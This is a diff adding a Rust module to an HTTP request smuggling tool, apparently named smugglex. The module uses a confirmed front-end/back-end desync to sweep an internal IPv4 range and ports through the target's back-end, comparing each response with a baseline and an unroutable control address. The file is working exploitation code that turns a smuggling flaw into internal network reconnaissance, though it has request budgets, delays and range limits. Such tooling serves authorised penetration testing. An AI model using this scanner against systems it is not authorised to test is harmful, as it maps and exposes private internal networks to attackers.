@@ -0,0 +1,385 @@
+//! `internal-sweep`: the confirmed desync as a bounded internal scanner. Each
+//! address of `--range` is smuggled to on every `--exploit-ports` port, and
+//! the probe response behind it is classified against the application and
+//! an address that cannot answer.
+//!
+//! ```text
+//! smugglex -e internal-sweep --range 10.0.0.0/24 --ports 80,8080 https://target.com
+//! ```
+
+use crate::error::{Result, SmugglexError};
+use crate::model::{InternalSweep, SweepTarget};
+use colored::*;
+use std::fmt;
+use std::net::Ipv4Addr;
+use std::time::Duration;
+
+use super::localhost_access::{
+    Baseline, PortVerdict, REQUESTS_PER_ATTEMPT, ResponseShape, SinglePortTestParams,
+    classify_port, fetch_baseline, order_ports_by_likelihood, test_single_port,
+};
+use super::{ExploitBudget, VulnerabilityContext};
+
+/// Requests the sweep may send by default (`--sweep-budget`).
+pub const DEFAULT_SWEEP_BUDGET: u32 = 200;
+/// Shortest pause between two smuggling attempts, whatever `--delay` says.
+pub const SWEEP_MIN_DELAY_MS: u64 = 100;
+/// Widest `--range` accepted: a /16.
+pub const MIN_SWEEP_PREFIX: u8 = 16;
+/// Address smuggled to first as the control: in TEST-NET-1 (RFC 5737), so
+/// never routed, and its answer is what an unreachable address looks like.
+pub const SWEEP_CONTROL_ADDRESS: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 1);
+/// Attempts after which a sweep where every address answered like the
+/// application stops: the back-end is not routing on the smuggled `Host`.
+const SWEEP_PROBE_SET_SIZE: usize = 4;
+
+/// How an address and port answered.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SweepVerdict {
+    /// Answered like the application itself
+    Reachable,
+    /// No usable response, a routing error, or the control's answer
+    Refused,
+    /// Answered differently from both the application and the control
+    DifferentApp,
+}
+
+impl SweepVerdict {
+    /// Name used in output.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            SweepVerdict::Reachable => "reachable",
+            SweepVerdict::Refused => "refused",
+            SweepVerdict::DifferentApp => "different-app",
+        }
+    }
+}
+
+impl fmt::Display for SweepVerdict {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+impl From<PortVerdict> for SweepVerdict {
+    fn from(verdict: PortVerdict) -> Self {
+        match verdict {
+            PortVerdict::OpenDifferentService => SweepVerdict::DifferentApp,
+            PortVerdict::SameApp => SweepVerdict::Reachable,
+            PortVerdict::Filtered | PortVerdict::Skipped => SweepVerdict::Refused,
+        }
+    }
+}
+
+/// An IPv4 `--range`: a CIDR block, or a single address.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct SweepRange {
+    network: Ipv4Addr,
+    prefix: u8,
+}
+
+impl SweepRange {
+    /// Parse `10.0.0.0/24` or `10.0.0.5`; host bits of a block are ignored.
+    pub fn parse(range: &str) -> Result<Self> {
+        let invalid = || {
+            SmugglexError::Config(format!(
+                "invalid --range '{}': expected an IPv4 address or CIDR block such as 10.0.0.0/24",
+                range
+            ))
+        };
+        let (address, prefix) = match range.trim().split_once('/') {
+            Some((address, prefix)) => (address, prefix.parse::<u8>().map_err(|_| invalid())?),
+            None => (range.trim(), 32),
+        };
+        let address: Ipv4Addr = address.parse().map_err(|_| invalid())?;
+        if prefix > 32 {
+            return Err(invalid());
+        }
+        if prefix < MIN_SWEEP_PREFIX {
+            return Err(SmugglexError::Config(format!(
+                "--range '{}' is too wide: at most a /{}",
+                range, MIN_SWEEP_PREFIX
+            )));
+        }
+        let mask = u32::MAX.checked_shl(32 - u32::from(prefix)).unwrap_or(0);
+        Ok(SweepRange {
+            network: Ipv4Addr::from(u32::from(address) & mask),
+            prefix,
+        })
+    }
+
+    /// Addresses swept, in order: the network and broadcast addresses of a
+    /// block wider than /31 are left out.
+    pub fn addresses(&self) -> impl Iterator<Item = Ipv4Addr> + use<> {
+        let first = u32::from(self.network);
+        let size = 1u64 << (32 - u32::from(self.prefix));
+        let (start, end) = if self.prefix < 31 {
+            (1, size - 1)
+        } else {
+            (0, size)
+        };
+        (start..end).map(move |offset| Ipv4Addr::from(first + offset as u32))
+    }
+
+    /// Number of addresses swept.
+    pub fn address_count(&self) -> usize {
+        let size = 1usize << (32 - u32::from(self.prefix));
+        if self.prefix < 31 { size - 2 } else { size }
+    }
+}
+
+impl fmt::Display for SweepRange {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}/{}", self.network, self.prefix)
+    }
+}
+
+#[derive(Debug)]
+pub struct InternalSweepParams<'a> {
+    pub host: &'a str,
+    pub port: u16,
+    pub path: &'a str,
+    pub use_tls: bool,
+    pub timeout: u64,
+    pub verbose: bool,
+    pub vuln_ctx: &'a VulnerabilityContext,
+    pub range: SweepRange,
+    pub ports: &'a [u16],
+    /// Pause between attempts; raised to [`SWEEP_MIN_DELAY_MS`]
+    pub delay: u64,
+    /// Requests the sweep may send, baseline and control included
+    pub max_requests: usize,
+    /// Caps shared with the other exploits
+    pub budget: &'a ExploitBudget,
+}
+
+impl InternalSweepParams<'_> {
+    /// Settings for smuggling to `address:port`.
+    fn attempt<'b>(
+        &'b self,
+        baseline: &'b Baseline,
+        port: u16,
+        address: &'b str,
+    ) -> SinglePortTestParams<'b> {
+        SinglePortTestParams {
+            host: self.host,
+            port: self.port,
+            path: self.path,
+            use_tls: self.use_tls,
+            timeout: self.timeout,
+            verbose: self.verbose,
+            vuln_ctx: self.vuln_ctx,
+            localhost_port: port,
+            loopback_host: address,
+            baseline_status: &baseline.status,
+            baseline_body: &baseline.body,
+            baseline_duration: baseline.duration,
+        }
+    }
+}
+
+/// An address and port the sweep smuggled to
+#[derive(Debug)]
+pub struct SweepProbeResult {
+    pub address: Ipv4Addr,
+    pub port: u16,
+    pub verdict: SweepVerdict,
+    pub reason: String,
+    pub response_status: Option<String>,
+}
+
+/// Result of an internal sweep
+#[derive(Debug)]
+pub struct InternalSweepResult {
+    pub range: SweepRange,
+    pub results: Vec<SweepProbeResult>,
+    /// Address and port pairs left untested
+    pub untested: usize,
+    pub requests_sent: usize,
+    /// Why the sweep ended before covering the range, if it did
+    pub stopped: Option<String>,
+}
+
+impl From<&InternalSweepResult> for InternalSweep {
+    fn from(result: &InternalSweepResult) -> Self {
+        InternalSweep {
+            range: result.range.to_string(),
+            requests_sent: result.requests_sent,
+            untested: result.untested,
+            stopped: result.stopped.clone(),
+            targets: result
+                .results
+                .iter()
+                .map(|r| SweepTarget {
+                    address: r.address.to_string(),
+                    port: r.port,
+                    verdict: r.verdict.as_str().to_string(),
+                    reason: r.reason.clone(),
+                    response_status: r.response_status.clone(),
+                })
+                .collect(),
+        }
+    }
+}
+
+/// Most requests a sweep of `pairs` address and port pairs sends within
+/// `budget`: a baseline, the control, then a smuggle and probe per pair.
+pub fn sweep_requests(pairs: usize, budget: usize) -> usize {
+    (1 + (1 + pairs) * REQUESTS_PER_ATTEMPT).min(budget)
+}
+
+/// Sweep `params.range` through the detected smuggling vulnerability.
+pub async fn test_internal_sweep(params: &InternalSweepParams<'_>) -> Result<InternalSweepResult> {
+    let ports = order_ports_by_likelihood(params.ports);
+    let total = params.range.address_count() * ports.len();
+    let mut sweep = InternalSweepResult {
+        range: params.range,
+        results: Vec::new(),
+        untested: total,
+        requests_sent: 0,
+        stopped: None,
+    };
+    let within_budget = |sent: usize| sent + REQUESTS_PER_ATTEMPT <= params.max_requests;
+    if total == 0 || !within_budget(1) {
+        sweep.stopped = Some("request budget too small for a single attempt".to_string());
+        return Ok(sweep);
+    }
+    if !params.budget.take(1 + REQUESTS_PER_ATTEMPT) {
+        sweep.stopped = Some(params.budget.exhausted_reason());
+        return Ok(sweep);
+    }
+
+    let baseline = fetch_baseline(
+        params.host,
+        params.port,
+        params.path,
+        params.timeout,
+        params.verbose,
+        params.use_tls,
+    )
+    .await?;
+    sweep.requests_sent = 1;
+    let baseline_shape = baseline.shape();
+    let control_host = SWEEP_CONTROL_ADDRESS.to_string();
+
+    if params.verbose {
+        println!(
+            "\n{} Probing unreachable control address {}...",
+            "[*]".cyan(),
+            control_host
+        );
+    }
+    let control = test_single_port(&params.attempt(&baseline, ports[0], &control_host)).await?;
+    sweep.requests_sent += REQUESTS_PER_ATTEMPT;
+    let control_shape = ResponseShape::of(&control);
+    let control_like_baseline = control_shape
+        .as_ref()
+        .is_none_or(|shape| shape.matches(&baseline_shape));
+
+    let delay = Duration::from_millis(params.delay.max(SWEEP_MIN_DELAY_MS));
+    'sweep: for address in params.range.addresses() {
+        let address_host = address.to_string();
+        for &port in &ports {
+            if sweep.results.len() == SWEEP_PROBE_SET_SIZE
+                && control_like_baseline
+                && sweep
+                    .results
+                    .iter()
+                    .all(|r| r.verdict == SweepVerdict::Reachable)
+            {
+                sweep.stopped = Some(format!(
+                    "the control and the first {} attempts all answered like the application",
+                    SWEEP_PROBE_SET_SIZE
+                ));
+                break 'sweep;
+            }
+            if !within_budget(sweep.requests_sent) {
+                sweep.stopped = Some("request budget exhausted".to_string());
+                break 'sweep;
+            }
+            if !params.budget.take(REQUESTS_PER_ATTEMPT) {
+                sweep.stopped = Some(params.budget.exhausted_reason());
+                break 'sweep;
+            }
+            tokio::time::sleep(delay).await;
+            if params.verbose {
+                println!(
+                    "\n{} Sweeping {}...",
+                    "[*]".cyan(),
+                    format!("{}:{}", address, port).yellow()
+                );
+            }
+            let result = test_single_port(&params.attempt(&baseline, port, &address_host)).await?;
+            sweep.requests_sent += REQUESTS_PER_ATTEMPT;
+            let verdict = SweepVerdict::from(classify_port(
+                &result,
+                &baseline_shape,
+                control_shape.as_ref(),
+            ));
+            if params.verbose {
+                println!("  {} Verdict: {}", "[*]".cyan(), verdict);
+            }
+            sweep.results.push(SweepProbeResult {
+                address,
+                port,
+                verdict,
+                reason: result.reason,
+                response_status: result.response_status,
+            });
+            sweep.untested -= 1;
+        }
+    }
+
+    Ok(sweep)
+}
+
+/// Print internal sweep results in a formatted way
+pub fn print_sweep_results(sweep: &InternalSweepResult, target_url: &str) {
+    println!("\n{}", "=== Internal Sweep Results ===".bold());
+    println!("{} {}", "Target:".bold(), target_url);
+    println!("{} {}", "Range:".bold(), sweep.range);
+    println!("{} {}", "Requests Sent:".bold(), sweep.requests_sent);
+    println!();
+
+    let answering: Vec<_> = sweep
+        .results
+        .iter()
+        .filter(|r| r.verdict != SweepVerdict::Refused)
+        .collect();
+    if answering.is_empty() {
+        println!(
+            "{} No swept address answered differently from an unreachable one",
+            "[-]".red().bold()
+        );
+    }
+    for result in answering {
+        let verdict = match result.verdict {
+            SweepVerdict::DifferentApp => result.verdict.as_str().green().bold(),
+            _ => result.verdict.as_str().yellow(),
+        };
+        println!(
+            "{} {:<21} {:<14} {}",
+            "[+]".green().bold(),
+            format!("{}:{}", result.address, result.port).bold(),
+            verdict,
+            result.response_status.as_deref().unwrap_or("-")
+        );
+    }
+
+    let refused = sweep
+        .results
+        .iter()
+        .filter(|r| r.verdict == SweepVerdict::Refused)
+        .count();
+    println!();
+    println!(
+        "{} {} tested, {} refused, {} untested",
+        "Summary:".bold(),
+        sweep.results.len(),
+        refused,
+        sweep.untested
+    );
+    if let Some(ref stopped) = sweep.stopped {
+        println!("{} {}", "Stopped:".bold(), stopped.dimmed());
+    }
+}